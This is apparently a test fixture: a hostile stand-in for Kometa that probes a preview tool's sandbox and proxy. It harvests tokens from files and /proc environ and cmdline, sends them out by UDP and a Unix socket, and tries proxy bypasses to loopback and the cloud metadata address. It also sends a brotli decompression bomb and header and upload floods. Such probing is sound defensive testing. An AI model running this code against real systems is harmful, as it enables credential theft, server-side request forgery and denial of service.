#!/usr/bin/env python3
"""A hostile Kometa stand-in: run by `kometa-preview render` exactly where Kometa runs (same argv, same
environment, HTTP(S)_PROXY pointing at the outside-calls port, the job token in kometa_run.yml, and — where the
kernel allows it — in Kometa's box). First it tries to get out of the box: it reads every file of the job folder
over and over while the proxy starts, every /proc/*/environ and cmdline, preview.yml and the user's Kometa config,
and with whatever token it found (or none) it writes to the real Plex directly, from a child process, by UDP, and
over a Unix socket; it fetches `localhost`/`127.0.0.1` URLs the way an overlay `url:` would; it tries to leave a
file outside its folder. Then it tries every side door of issue 10 through the proxy. It writes what came back
to `<its config folder>/hostile.json` (the one folder it may write). With HOSTILE_THEN_KOMETA=1 it then runs the
ordinary stand-in, so the render also produces its previews.

Hooks (baked into a wrapper by the test; Kometa's environment is an allowlist): HOSTILE_PLEX_URL (the real
Plex, as an attacker on the machine would know it), HOSTILE_FILES (files to read, `:`-separated),
HOSTILE_UDP_PORT and HOSTILE_UNIX_SOCKET (where the test listens for what leaks), HOSTILE_OUTSIDE_FILE (a file
to try to leave), HOSTILE_THEN_KOMETA, HOSTILE_BULK=0 to skip the 20 × 63 MiB uploads.
"""
from __future__ import annotations

import argparse
import json
import os
import re
import runpy
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import quote, urlsplit

import brotli
import requests
import yaml

STANDIN = Path(__file__).parent / "kometa_standin" / "kometa.py"
LOOPBACK_SPELLINGS = ["127.0.0.1", "localhost", "127.1", "2130706433", "0.0.0.0", "[::ffff:127.0.0.1]", "[::1]"]


def exchange(address: tuple[str, int], data: bytes, *, then: bytes | None = None, timeout: float = 10) -> dict:
    """Send `data`; if the answer is a 200 to a CONNECT, send `then` through the tunnel. Returns what came back."""
    started = time.monotonic()
    result: dict = {"status": None, "tunnel_answer": None}
    try:
        with socket.create_connection(address, timeout=timeout) as sock:
            sock.sendall(data)
            head = _read_head(sock)
            result["status"] = _status(head)
            if then is not None and result["status"] == 200:
                sock.sendall(then)
                result["tunnel_answer"] = _read_all(sock)[:200].decode("latin-1")
            else:
                _read_answer(sock, head)
    except OSError as exc:
        result["error"] = type(exc).__name__
    result["seconds"] = round(time.monotonic() - started, 3)
    return result


def _read_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def _read_answer(sock: socket.socket, head: bytes) -> bytes:
    """The rest of one answer: its Content-Length, or until the proxy closes."""
    match = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    if match is None:
        return head + _read_all(sock)
    body = head.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in head else b""
    while len(body) < int(match[1]):
        chunk = sock.recv(65536)
        if not chunk:
            break
        body += chunk
    return body


def _read_all(sock: socket.socket) -> bytes:
    chunks = []
    try:
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    except OSError:
        pass
    return b"".join(chunks)


def _status(head: bytes) -> int | None:
    match = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    return int(match[1]) if match else None


def http_get(address: tuple[str, int], path: str, token: str, extra: str = "", timeout: float = 10) -> tuple[int | None, bytes]:
    with socket.create_connection(address, timeout=timeout) as sock:
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: plex\r\nConnection: close\r\nX-Plex-Token: {token}\r\n{extra}\r\n"
                     .encode())
        data = _read_all(sock)
    return _status(data), data


def outside_door(proxy: tuple[str, int], plex: tuple[str, int]) -> list[dict]:
    port = plex[1]
    attempts = []
    rename = (b" PUT /library/sections/1/all?type=1&id=1001&title.value=RENAMED HTTP/1.1\r\nHost: x\r\n"
              b"Content-Length: 0\r\n\r\n")
    for host in LOOPBACK_SPELLINGS:
        connect = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
        attempts.append({"door": "outside", "what": f"CONNECT {host}:{port} then raw bytes",
                         **exchange(proxy, connect, then=rename)})
        for path in ("/:/scrobble?key=1001&identifier=com.plexapp.plugins.library", "/library/sections/1/refresh"):
            request = f"GET http://{host}:{port}{path} HTTP/1.1\r\nHost: api.themoviedb.org\r\n\r\n".encode()
            attempts.append({"door": "outside", "what": f"GET http://{host}:{port}{path} (Host: api.themoviedb.org)",
                             **exchange(proxy, request)})
        put = (f"PUT http://{host}:{port}/library/sections/1/all?type=1&id=1001&title.value=RENAMED HTTP/1.1\r\n"
               f"Host: api.themoviedb.org\r\nContent-Length: 0\r\n\r\n").encode()
        attempts.append({"door": "outside", "what": f"PUT http://{host}:{port}/…/all?title.value=", **exchange(proxy, put)})
    origin = f"GET /:/scrobble?key=1001 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
    attempts.append({"door": "outside", "what": "origin-form GET with Host: Plex", **exchange(proxy, origin)})
    for request in (b"POST http://hooks.slack.com/services/T/B/X HTTP/1.1\r\nHost: hooks.slack.com\r\n"
                    b"Content-Length: 2\r\n\r\n{}",
                    b"POST http://api.trakt.tv/sync/history HTTP/1.1\r\nHost: api.trakt.tv\r\nContent-Length: 2\r\n\r\n{}",
                    b"GET http://169.254.169.254/latest/meta-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
                    b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"):
        attempts.append({"door": "outside", "what": request.split(b"\r\n", 1)[0].decode(), **exchange(proxy, request)})
    tunnel = b"CONNECT api.themoviedb.org:443 HTTP/1.1\r\nHost: api.themoviedb.org:443\r\n\r\n"
    attempts.append({"door": "outside", "what": "CONNECT api.themoviedb.org:443 then raw non-HTTP bytes",
                     **exchange(proxy, tunnel, then=rename)})
    return attempts


def reverse_door(proxy: tuple[str, int], token: str) -> tuple[list[dict], set[str]]:
    """Wildcard routes, item-listing routes, item-pulling parameters, oversized headers and bodies."""
    attempts: list[dict] = []
    seen_keys: set[str] = set()
    paths = [f"/library/sections/{s}/{sub}" for s in (1, 2) for sub in
             ("Refresh", "REFRESH", "emptytrash", "Analyze", "unwatched", "recentlyViewed", "allLeaves",
              "autocomplete?query=a", "common?type=1", "firstCharacter", "onDeck", "newest", "search?query=a")]
    paths += ["/library/metadata/1001?includeRelated=1&includeChildren=1&includeOnDeck=1&includePopularLeaves=1",
              "/library/metadata/2000?includeChildren=1&includeOnDeck=1",
              "/library/all?type=1", "/library/onDeck", "/library/recentlyAdded", "/hubs/search?query=a",
              "/library/sections/1/collections"]
    for path in paths:
        status, body = http_get(proxy, path, token)
        keys = set(re.findall(rb'ratingKey="(\d+)"', body))
        seen_keys |= {k.decode() for k in keys}
        attempts.append({"door": "reverse", "what": f"GET {path}", "status": status,
                         "rating_keys": sorted(k.decode() for k in keys)})
    # Redaction: a token in an encoded parameter name, nested twice in url=, and credential headers.
    nested = quote(quote(f"/library/metadata/1001/thumb?X-Plex-Token={token}", safe=""), safe="")
    for path in (f"/library/metadata/1001?X%2DPlex%2DToken={token}", f"/photo/:/transcode?url={nested}&width=10"):
        status, _ = http_get(proxy, path, token, extra="Authorization: Bearer hostile-bearer-secret\r\n"
                                                       "Cookie: session=hostile-cookie-secret\r\n")
        attempts.append({"door": "reverse", "what": "credentials in encoded names, nested url= and headers",
                         "status": status})
    return attempts, seen_keys


def exhaustion(proxy: tuple[str, int], token: str, bulk: bool) -> list[dict]:
    attempts: list[dict] = []
    compressor = brotli.Compressor(quality=5)  # 1 GiB of zeros, compressed without holding it
    bomb = b"".join(compressor.process(b"\0" * (1 << 20)) for _ in range(1024)) + compressor.finish()
    request = (f"POST /library/metadata/1001/posters HTTP/1.1\r\nHost: plex\r\nX-Plex-Token: {token}\r\n"
               f"Content-Encoding: br\r\nContent-Length: {len(bomb)}\r\nConnection: close\r\n\r\n").encode() + bomb
    attempts.append({"door": "reverse", "what": f"brotli bomb upload ({len(bomb)} bytes → 1 GiB)",
                     **exchange(proxy, request, timeout=60)})
    latencies: list[float] = []
    stop = threading.Event()

    def normal_requests() -> None:
        """Kometa's own requests must keep being answered while the attacks run."""
        while not stop.is_set():
            started = time.monotonic()
            status, _ = http_get(proxy, "/identity", token, timeout=30)
            latencies.append(round(time.monotonic() - started, 3) if status == 200 else 99.0)
            time.sleep(0.05)

    watcher = threading.Thread(target=normal_requests, daemon=True)
    watcher.start()
    for count in (20_000, 100_000):
        headers = "".join(f"X-H{i}: v\r\n" for i in range(count))
        request = f"GET /identity HTTP/1.1\r\nHost: plex\r\nX-Plex-Token: {token}\r\n{headers}Connection: close\r\n\r\n"
        attempts.append({"door": "reverse", "what": f"{count:,} headers", **exchange(proxy, request.encode(), timeout=60)})
    if bulk:
        size = 63 << 20
        payload = b"\x89PNG\r\n\x1a\n" + b"\0" * (size - 8)
        results: list[dict] = []

        def upload() -> None:
            """Headers, then the body a megabyte at a time, so a connection the proxy closes is seen at once."""
            head = (f"POST /library/metadata/1001/posters HTTP/1.1\r\nHost: plex\r\nX-Plex-Token: {token}\r\n"
                    f"Content-Length: {size}\r\nConnection: close\r\n\r\n").encode()
            result: dict = {"status": None}
            began = time.monotonic()
            try:
                with socket.create_connection(proxy, timeout=60) as sock:
                    sock.sendall(head)
                    view = memoryview(payload)
                    for start in range(0, size, 1 << 20):
                        sock.sendall(view[start:start + (1 << 20)])
                    result["status"] = _status(_read_head(sock))
            except OSError as exc:
                result["error"] = type(exc).__name__
            result["seconds"] = round(time.monotonic() - began, 2)
            results.append(result)

        threads = [threading.Thread(target=upload) for _ in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        statuses: dict[str, int] = {}
        for result in results:
            statuses[str(result["status"])] = statuses.get(str(result["status"]), 0) + 1
        attempts.append({"door": "reverse", "what": "20 concurrent 63 MiB uploads", "statuses": statuses,
                         "each": results})
    half_open = socket.create_connection(proxy)  # held open with nothing sent
    time.sleep(0.5)
    stop.set()
    watcher.join(timeout=30)
    half_open.close()
    attempts.append({"door": "reverse", "what": "normal requests during the attacks", "latencies": latencies})
    return attempts


def cmdlines() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found.append((entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
            except OSError:
                continue
    return found


def _read(path: Path, limit: int = 1 << 20) -> str | None:
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError:
        return None


def harvest(job: Path, extra: list[str], seconds: float) -> list[dict]:
    """Everything within reach that might hold the Plex token: every file of the job folder, read again and again
    for `seconds` (the proxy is still starting: a file it reads once and deletes would be caught), every process's
    environ and command line, and the files named."""
    found: dict[tuple[str, str], dict] = {}

    def keep(where: str, text: str | None) -> None:
        if text:
            found.setdefault((where, text), {"where": where, "text": text[:200_000]})

    deadline = time.monotonic() + seconds
    while True:
        for path in job.rglob("*"):
            if path.is_file() and path.suffix not in (".jpg", ".png", ".webp", ".bin"):
                keep(str(path), _read(path))
        if time.monotonic() > deadline:
            break
        time.sleep(0.01)
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                keep(f"/proc/{entry.name}/{name}", _read(entry / name))
    for name in extra:
        keep(name, _read(Path(name)))
    return list(found.values())


TOKEN_PATTERNS = [rb"token[\"']?\s*[:=]\s*[\"']?([A-Za-z0-9_\-]{8,})", rb"PLEX_TOKEN=([A-Za-z0-9_\-]{8,})",
                  rb"X-Plex-Token=([A-Za-z0-9_\-]{8,})"]


def candidate_tokens(texts: list[dict]) -> list[str]:
    found = {""}
    for item in texts:
        for pattern in TOKEN_PATTERNS:
            found |= {m.decode() for m in re.findall(pattern, item["text"].encode("utf-8", "replace"))}
    return sorted(found)


WRITE = ("PUT /library/sections/1/all?type=1&id=1001&title.value=HOSTILE&hostile=1 HTTP/1.1\r\nHost: plex\r\n"
         "X-Plex-Token: {token}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
CHILD = """import socket, sys
host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    with socket.create_connection((host, port), timeout=3) as sock:
        sock.sendall(sys.argv[4].replace("{token}", token).encode())
        print(sock.recv(100).decode("latin-1").split("\\r\\n")[0])
except OSError as exc:
    print(type(exc).__name__, exc)
"""


def escape(plex: tuple[str, int], tokens: list[str], proxy_port: int) -> list[dict]:
    """Writes to the real Plex that skip the proxy: directly, from a child process, by UDP, over a Unix socket;
    `localhost` URLs fetched the way an overlay `url:` is; a file left outside the job."""
    attempts: list[dict] = []
    for token in tokens:
        for host in ("127.0.0.1", "localhost", plex[0]):
            attempts.append({"door": "box", "what": f"PUT to {host}:{plex[1]} directly",
                             **exchange((host, plex[1]), WRITE.format(token=token).encode(), timeout=3)})
        child = subprocess.run([sys.executable, "-c", CHILD, plex[0], str(plex[1]), token, WRITE],
                               capture_output=True, text=True, timeout=30)
        attempts.append({"door": "box", "what": "PUT from a child process", "answer": child.stdout.strip()})
        udp_port = int(os.environ.get("HOSTILE_UDP_PORT") or 0)
        for where, address in (("loopback", ("127.0.0.1", udp_port)), ("the LAN", ("10.255.255.1", 53))):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                    udp.sendto(f"token={token}".encode(), address)
                attempts.append({"door": "box", "what": f"UDP datagram to {where}", "error": None})
            except OSError as exc:
                attempts.append({"door": "box", "what": f"UDP datagram to {where}", "error": type(exc).__name__})
    if os.environ.get("HOSTILE_UNIX_SOCKET"):
        try:
            with socket.socket(socket.AF_UNIX) as unix:
                unix.connect(os.environ["HOSTILE_UNIX_SOCKET"])
                unix.sendall(b"hostile")
            attempts.append({"door": "box", "what": "Unix socket", "error": None})
        except OSError as exc:
            attempts.append({"door": "box", "what": "Unix socket", "error": type(exc).__name__})
    for url in (f"http://localhost:{plex[1]}/identity?hostile=1", f"http://127.0.0.1:{plex[1]}/identity?hostile=1",
                f"http://localhost:{proxy_port}/identity?hostile=1"):
        try:  # as an overlay's `url:` is fetched: requests, with the environment's proxies
            status = requests.get(url, timeout=5).status_code
        except requests.RequestException as exc:
            status = type(exc).__name__
        attempts.append({"door": "box", "what": f"GET {url} (requests, proxies from the environment)",
                         "status": status})
    if os.environ.get("HOSTILE_OUTSIDE_FILE"):
        try:
            Path(os.environ["HOSTILE_OUTSIDE_FILE"]).write_text("left behind by Kometa")
            attempts.append({"door": "box", "what": "a file outside the job", "error": None})
        except OSError as exc:
            attempts.append({"door": "box", "what": "a file outside the job", "error": type(exc).__name__})
    return attempts


def main() -> int:
    parser = argparse.ArgumentParser(prog="kometa.py")
    parser.add_argument("--config", required=True)
    args, _ = parser.parse_known_args()
    with open(args.config, encoding="utf-8") as handle:
        config = yaml.safe_load(handle)
    reverse = urlsplit(config["plex"]["url"])
    token = config["plex"]["token"]
    outside = urlsplit(os.environ["HTTPS_PROXY"])
    plex = urlsplit(os.environ["HOSTILE_PLEX_URL"])
    job = Path(args.config).resolve().parent.parent
    extra = [name for name in os.environ.get("HOSTILE_FILES", "").split(":") if name]
    phases: dict[str, float] = {}
    started = time.monotonic()

    def phase(name: str) -> None:
        nonlocal started
        phases[name] = round(time.monotonic() - started, 3)
        started = time.monotonic()

    harvested = harvest(job, extra, 1.5)
    report = {"environment": dict(os.environ), "cmdlines": cmdlines(), "harvest": harvested,
              "pids": sorted(int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit()), "seconds": phases}
    phase("harvest")
    tokens = candidate_tokens(harvested)
    report["attempts"] = escape((plex.hostname, plex.port), tokens, reverse.port)
    phase(f"escape ({len(tokens)} candidate tokens)")
    report["attempts"] += outside_door((outside.hostname, outside.port), (plex.hostname, plex.port))
    phase("outside door")
    attempts, keys = reverse_door((reverse.hostname, reverse.port), token)
    report["attempts"] += attempts
    report["rating_keys_seen"] = sorted(keys)
    phase("reverse door")
    report["attempts"] += exhaustion((reverse.hostname, reverse.port), token, os.environ.get("HOSTILE_BULK") != "0")
    phase("exhaustion")
    (Path(args.config).parent / "hostile.json").write_text(json.dumps(report, indent=1), encoding="utf-8")
    print("| hostile stand-in: every door tried", flush=True)
    if os.environ.get("HOSTILE_THEN_KOMETA") == "1":
        runpy.run_path(str(STANDIN), run_name="__main__")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
